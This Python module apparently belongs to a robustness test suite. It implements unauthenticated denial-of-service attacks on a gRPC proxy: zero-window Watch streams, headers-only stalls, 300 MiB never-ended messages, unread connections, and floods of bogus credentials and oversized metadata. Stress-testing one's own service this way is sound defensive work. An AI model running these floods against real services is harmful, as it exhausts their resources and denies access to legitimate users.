"""What somebody without a credential can do with calls."""

from __future__ import annotations

import functools
import gzip
import itertools
import time
from collections.abc import Callable, Iterator

from attacks import ways
from attacks.frames import INITIAL_WINDOW_SIZE, call_fields, message
from attacks.http2_client import Address, Connection
from attacks.world import ATTACKERS_ADDRESS, BREAKS_THE_FRONT_END, CHECK, LONGEST_CREDENTIAL, MB, WATCH, Tally, Target
from multimodal_contract import SEND_UNARY_METHOD
from multimodal_contract.wire import varint

Attack = Callable[[Target, Tally], None]
Place = Callable[[Target], Address]
# More calls than any proxy with default settings has places for.
_MANY_CALLS = 400
# Between this and twice as much grpc refuses metadata at random.
_LARGE_METADATA = 8 << 10
_NO_WINDOW = {INITIAL_WINDOW_SIZE: 0}
_GZIPPED = ("grpc-encoding", "gzip")
connect = functools.partial(Connection, source=ATTACKERS_ADDRESS)


def callers(target: Target) -> Address:
    """The callers' listener."""
    return target.callers


def probes(target: Target) -> Address:
    """The probes' listener."""
    return target.probes


def watch_without_a_window(place: Place) -> Attack:
    """Health/Watch whose answer can't be sent, since the stream's window is 0."""

    def attack(target: Target, tally: Tally) -> None:
        def open_one(_: int) -> Connection:
            connection = connect(place(target), values=_NO_WINDOW)
            for _ in range(4):
                connection.begin(call_fields(WATCH), message(b""))
            return connection

        ways.hold(tally, open_one, 2)

    return attack


def big_health_names(place: Place, size: int) -> Attack:
    """Health calls that ask for services with names of many bytes, gzipped; each name is another."""

    def attack(target: Target, tally: Tally) -> None:
        blocks = [call_fields(method, [_GZIPPED]) for method in (WATCH, CHECK)]
        # Made once: packing them takes longer than sending them.
        names = [
            _named(b"x" * size + str(number).encode()) for number in range(4 if size > 8 * MB else target.count(60))
        ]
        numbers = itertools.cycle(range(len(names)))

        def once() -> None:
            with connect(place(target)) as connection:
                name = names[next(numbers)]
                streams = [connection.reserve() for _ in blocks]
                for stream, block in zip(streams, blocks, strict=True):
                    _upload(connection, stream, block, name, tally)
                for stream in streams:
                    connection.ended(stream, min(tally.until, time.monotonic() + 2))

        ways.again(tally, once, 2)

    return attack


def _named(name: bytes) -> bytes:
    return message(gzip.compress(b"\x0a" + varint(len(name)) + name, 1), compressed=True)


def _upload(connection: Connection, stream: int, block: bytes, body: bytes, tally: Tally) -> None:
    connection.start(stream, block)
    tally.add("bytes", connection.upload(stream, body, end=True, until=tally.until))


def health_without_a_message(place: Place) -> Attack:
    """Health calls that send their headers, and then nothing."""

    def attack(target: Target, tally: Tally) -> None:
        blocks = [call_fields(method) for method in (CHECK, WATCH)]

        def open_one(_: int) -> Connection:
            connection = connect(place(target))
            for number in range(_MANY_CALLS // 8):
                connection.begin(blocks[number % 4 == 3], end=False)
            return connection

        ways.hold(tally, open_one, 8)

    return attack


def open_watches(place: Place) -> Attack:
    """Health/Watch calls that stay open, and whose answers are read."""

    def attack(target: Target, tally: Tally) -> None:
        block = call_fields(WATCH)

        def open_one(_: int) -> Connection:
            connection = connect(place(target), takes=True)
            for _ in range(_MANY_CALLS // 8):
                connection.begin(block, message(b""))
            return connection

        ways.hold(tally, open_one, 8)

    return attack


def large_health_messages(place: Place) -> Attack:
    """Health calls with messages of up to 300 MiB, sent as fast as the proxy takes them and never ended."""

    def attack(target: Target, tally: Tally) -> None:
        zeros = bytes(MB)

        def once(announced: int) -> None:
            with connect(place(target)) as connection:
                stream = connection.begin(call_fields(CHECK), message(b"", announced=announced), end=False)
                for _ in range(announced // MB - 1):
                    sent = connection.upload(stream, zeros, end=False, until=tally.until)
                    tally.add("bytes", sent)
                    if sent < len(zeros):
                        break
                connection.ended(stream, min(tally.until, time.monotonic() + 5))

        # What is larger than any limit, what is not, and what a probes' port with grpc's own limit takes.
        sizes = itertools.cycle([300 * MB, 250 * MB, 4 * MB, 250 * MB])
        ways.again(tally, lambda: once(next(sizes)), target.count(12), pause=0.05)

    return attack


def unread_refusals(connections: int, methods: tuple[str, ...], *, padding: int = 0) -> Attack:
    """Calls without a credential, on connections of which not a byte is read.

    Args:
        connections: how many.
        methods: of the calls, in turn.
        padding: bytes of metadata, which the proxy holds until the call is over.
    """

    def attack(target: Target, tally: Tally) -> None:
        blocks = [call_fields(method, [("x-padding", "p" * padding)]) for method in methods]

        def step(connection: Connection) -> int:
            for block in blocks:
                connection.begin(block)
            return len(blocks)

        def open_one() -> Connection:
            return connect(target.callers, receive_buffer=2048)

        ways.flood(tally, open_one, step, connections, reads=False)

    return attack


def calls(method: str) -> Attack:
    """Calls of a method without a credential, as many as the proxy answers."""

    def attack(target: Target, tally: Tally) -> None:
        block = call_fields(method)
        _flood_of_calls(target, tally, itertools.repeat(block))

    return attack


def _flood_of_calls(
    target: Target, tally: Tally, blocks: Iterator[bytes], per_step: int = 20, connections: int = 6
) -> None:
    def step(connection: Connection) -> int:
        streams = [connection.begin(next(blocks), message(b"")) for _ in range(per_step)]
        for stream in streams:
            connection.ended(stream, min(tally.until, time.monotonic() + 2))
        return per_step

    ways.flood(tally, lambda: connect(target.callers), step, connections)


def unknown_keys(target: Target, tally: Tally) -> None:
    """Calls with API keys that nobody has, each another; Domino takes 100 ms for each."""
    _flood_of_calls(target, tally, _credentials(lambda number: f"nobody-{number}"), 60)


def garbage_credentials(target: Target, tally: Tally) -> None:
    """Credentials of all lengths, to which Domino's front end answers 400, 500 or nobody's name."""

    def garbage(number: int) -> str:
        kind = number % 3
        if kind == 0:
            return f"{number}" + "A" * (LONGEST_CREDENTIAL + _spread(number, 3000))
        if kind == 1:
            return f"{BREAKS_THE_FRONT_END}-{number}" + "B" * _spread(number, 200)
        return f"{number}" + "C" * _spread(number, LONGEST_CREDENTIAL // 2)

    # Few at a time: a proxy has places for them and for callers that come meanwhile with good ones.
    _flood_of_calls(target, tally, _credentials(garbage), 4, connections=2)


def large_metadata(target: Target, tally: Tally) -> None:
    """Calls with 8 to 16 KiB of metadata, half of them in the credential."""

    def block(number: int) -> bytes:
        text = f"{number}" + "D" * (_LARGE_METADATA + _spread(number, _LARGE_METADATA))
        header = ("authorization", f"Bearer {text}") if number % 2 else ("x-padding", text)
        return call_fields(SEND_UNARY_METHOD, [header])

    _flood_of_calls(target, tally, map(block, itertools.count()))


def _spread(number: int, below: int) -> int:
    """A number from 0 to `below` that looks like chance."""
    return number * 7919 % below


def _credentials(make: Callable[[int], str]) -> Iterator[bytes]:
    """Header fields of calls whose credentials are made of numbers, as keys and as tokens in turn."""

    def block(number: int) -> bytes:
        text = make(number)
        credential = ("authorization", f"Bearer {text}") if number % 2 else ("x-domino-api-key", text)
        return call_fields(SEND_UNARY_METHOD, [credential])

    # Not a generator: several threads take from it. No attack repeats what an earlier one made the proxy remember.
    return map(block, itertools.count(time.time_ns()))
